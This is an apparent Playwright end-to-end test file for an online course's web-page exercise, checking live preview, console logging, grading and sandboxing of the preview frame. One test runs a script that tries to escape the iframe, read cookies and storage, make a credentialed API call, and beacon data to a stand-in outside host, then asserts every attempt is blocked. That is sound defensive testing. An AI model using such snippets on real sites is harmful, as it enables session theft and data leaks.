"""A page, written in the browser: shown as it grows, heard in the console, shut in its frame, judged by rules."""

import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from services.coding import machine
from tests.e2e.conftest import DESKTOP, OpenTab, sign_in
from tests.e2e.people import Person, register
from tests.e2e.serving import ROOT, Site
from tests.e2e.steps import SLOW, Steps
from tests.e2e.test_accessibility import look_at
from tests.language_course import EXERCISES, WEB_PAGE, WEB_STYLE, languages_course
from tests.packages import zipped

pytestmark = pytest.mark.browser

# What a page might try from its frame; each line of the console says what came of it.
BREAK_OUT = """
const tell = (what, action) => { try { console.log(what, String(action())); } catch (error) { console.log(what, error.name); } };
tell("origin", () => origin);
tell("parent", () => parent.document.title);
tell("top", () => { top.location = "/catalogue"; return "left"; });
tell("cookie", () => document.cookie);
tell("storage", () => localStorage.length);
tell("popup", () => open("/catalogue"));
tell("child", () => { const child = document.createElement("iframe"); document.body.append(child); return child.contentWindow.origin; });
fetch("/api/v1/auth/me", { credentials: "include" }).then(() => console.log("fetch came"), (error) => console.log("fetch", error.name));
new Image().src = "ELSEWHERE/told?" + origin;
parent.postMessage("preview", "*");
nothing.at.all();
"""  # noqa: E501


@pytest.fixture
def languages(site: str, site_data: Path, tmp_path: Path) -> str:
    """The course of exercises in several languages, on the running site."""
    problem = machine.cage_problem() or machine.language_problem("web")
    if problem:
        pytest.skip(problem)
    package = tmp_path / "languages.zip"
    package.write_bytes(zipped(languages_course()))
    command = [sys.executable, "-m", "lms_app", "import-course", str(package)]
    subprocess.run(command, cwd=ROOT, env=Site(site_data).environment(), check=True, capture_output=True)
    return "languages"


class Bench:
    """The exercise that is a page, in a learner's tab."""

    def __init__(self, page: Page, *, phone: bool = False) -> None:
        self.page, self.phone = page, phone
        self.exercise = page.locator(".exercise").nth(list(EXERCISES).index("tea"))
        self.shown = self.exercise.frame_locator("iframe.preview-frame:not(.preview-coming)")
        self.console = self.exercise.get_by_role("log")
        self.note = self.exercise.locator(".preview-note")

    def write(self, file: str, text: str) -> None:
        """Replace what stands in a file."""
        tab = self.exercise.get_by_role("button", name=file, exact=True)
        tab.click()
        expect(tab).to_have_attribute("data-state", "active")
        expect(self.exercise.get_by_label(f"Your program, {file}").first).to_be_attached()
        if self.phone:
            self.exercise.locator(".editor-plain").fill(text)
            return
        self.exercise.locator(".monaco-editor .view-lines").click()
        self.page.keyboard.press("ControlOrMeta+a")
        self.page.keyboard.press("Delete")
        self.page.keyboard.insert_text(text)


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another host, and what it was asked for."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def enrolled(site: str, course: str) -> Person:
    person = register(site)
    person.call("POST", f"courses/{course}/enroll")
    return person


def opened(page: Page, course: str, **look: object) -> Bench:
    page.goto(f"/learn/{course}/all-of-it")
    bench = Bench(page, phone=bool(look.get("phone")))
    bench.exercise.scroll_into_view_if_needed()
    expect(bench.shown.locator("h1")).to_have_text("Tea", timeout=SLOW)
    return bench


def test_it_is_shown_as_it_is_typed_heard_and_accepted(open_tab: OpenTab, site: str, languages: str) -> None:
    # What a page does wrong the browser logs as its error.
    bench = opened(open_tab(person=enrolled(site, languages), cut_off=True), languages)
    steps, run = Steps(bench.page), bench.exercise.locator(".preview").get_by_role("button", name="Run", exact=True)
    expect(bench.exercise.locator(".monaco-editor .view-lines")).to_be_visible(timeout=SLOW)

    run.click()
    bench.shown.get_by_role("button", name="More").click()
    expect(bench.console).to_contain_text("more")

    bench.write("index.html", WEB_PAGE.replace("green", "<b>oolong</b>"))
    expect(bench.shown.locator("b")).to_have_text("oolong")
    bench.write("style.css", WEB_STYLE)
    expect(bench.shown.locator(".list")).to_have_css("display", "flex")

    # A script runs when it is asked to, not while it is half written.
    bench.write("script.js", "console.log('Iñtërnâtiôn', {a: [1]}); console.warn('careful'); '</script>' + missing;")
    expect(bench.note).to_contain_text("scripts run when you press Run")
    expect(bench.console).not_to_contain_text("careful")
    bench.page.keyboard.press("ControlOrMeta+Enter")
    expect(bench.console).to_contain_text('Iñtërnâtiôn {"a":[1]}')
    expect(bench.console.locator("[data-kind=warn]")).to_contain_text("careful")
    expect(bench.console.locator("[data-kind=error]")).to_contain_text("missing is not defined")
    expect(bench.console.locator("[data-kind=error]")).to_contain_text("script.js:1")
    bench.exercise.get_by_role("button", name="Clear").click()
    expect(bench.console).not_to_contain_text("careful")

    steps.button("Hand in", bench.exercise).click()
    panel = bench.exercise.locator(".outcome")
    expect(panel.locator(".outcome-head")).to_contain_text("Accepted", timeout=SLOW)
    expect(panel).to_contain_text("4 of 4 tests")
    expect(panel).to_contain_text("Hidden test 2")
    assert "SECRET" not in bench.page.content()


def test_nothing_gets_out_of_the_frame_and_a_loop_is_ended(
    browser: Browser, site: str, languages: str, elsewhere: tuple[str, list[str]]
) -> None:
    host, asked = elsewhere
    context = browser.new_context(base_url=site, locale="en-GB", **DESKTOP)
    sign_in(context, enrolled(site, languages))
    bench = opened(context.new_page(), languages)
    expect(bench.exercise.locator(".monaco-editor .view-lines")).to_be_visible(timeout=SLOW)
    assert bench.exercise.locator("iframe").get_attribute("sandbox") == "allow-scripts allow-forms"
    bench.write("script.js", BREAK_OUT.replace("ELSEWHERE", host))
    bench.page.keyboard.press("ControlOrMeta+Enter")
    expect(bench.console.locator("[data-kind=error]")).to_contain_text("nothing is not defined")
    expect(bench.console).to_contain_text("fetch TypeError")
    assert bench.console.locator("[data-kind=log]").all_inner_texts() == [
        "origin null",
        "parent SecurityError",
        "top SecurityError",
        "cookie SecurityError",
        "storage SecurityError",
        "popup null",
        "child SecurityError",
        "fetch TypeError",
    ]
    expect(bench.console.locator("[data-kind=blocked]").first).to_contain_text("/api/v1/auth/me")
    expect(bench.console.locator("[data-kind=blocked]").last).to_contain_text("/told")
    assert bench.page.url.endswith("/all-of-it")

    form = f"const form = document.createElement('form'); form.action = '{host}/told'; document.body.append(form); "
    leaving = [f"location.href = {address!r};" for address in (f"{host}/told", "/catalogue", "data:text/html,told")]
    for script in (*leaving, f"{form} form.submit();", f"navigator.sendBeacon('{host}/told', 'x');"):
        bench.write("script.js", f"document.title = 'ran'; {script}")
        bench.page.keyboard.press("ControlOrMeta+Enter")
        bench.page.wait_for_timeout(700)
        told = [frame.url for frame in bench.page.frames[1:] if not frame.url.startswith("chrome-error:")]
        assert set(told) <= {f"{site}/api/preview"}, script
    assert asked == []

    bench.write("script.js", "for (;;) {}")
    bench.page.keyboard.press("ControlOrMeta+Enter")
    expect(bench.note).to_contain_text("Look for a loop that never ends", timeout=SLOW)
    expect(bench.exercise.locator("iframe")).to_have_count(0)
    bench.write("script.js", "console.log('again')")
    bench.page.keyboard.press("ControlOrMeta+Enter")
    expect(bench.console).to_contain_text("again")
    bench.exercise.get_by_role("button", name="Stop").click()
    expect(bench.exercise.locator("iframe")).to_have_count(0)
    context.close()


@pytest.mark.parametrize(
    ("language", "colours", "phone"),
    [
        pytest.param("ar", "dark", True, id="ar-dark-phone"),
        pytest.param("en", "light", False, id="en-light-desktop"),
    ],
)
def test_it_is_for_everybody(
    open_tab: OpenTab, site: str, languages: str, language: str, colours: str, phone: bool
) -> None:
    page = open_tab(language, colours=colours, phone=phone, person=enrolled(site, languages))
    bench = opened(page, languages, phone=phone)
    bench.exercise.locator(".preview .btn").first.click()
    bench.shown.get_by_role("button", name="More").click()
    expect(bench.console).to_contain_text("more")
    look_at(bench.page)
